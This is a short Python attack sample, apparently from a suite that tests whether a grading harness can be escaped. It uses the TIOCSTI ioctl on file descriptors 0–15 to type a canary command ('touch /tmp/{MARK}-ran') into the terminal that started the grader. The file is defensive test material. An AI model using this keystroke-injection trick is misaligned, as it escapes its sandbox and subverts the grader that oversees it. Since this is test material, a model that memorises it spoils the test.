"""Types a command into the terminal from which the grader was started.

Attack: 21
Behind: constant_stub.py
Keeps: none
"""

import contextlib
import fcntl
import os
import termios

for one in [0, 1, 2, *range(3, 16)]:
    with contextlib.suppress(OSError):
        for letter in f"touch /tmp/{MARK}-ran\n":
            fcntl.ioctl(one, termios.TIOCSTI, letter.encode())
with contextlib.suppress(OSError):
    os.close(os.open("/dev/tty", os.O_RDWR))
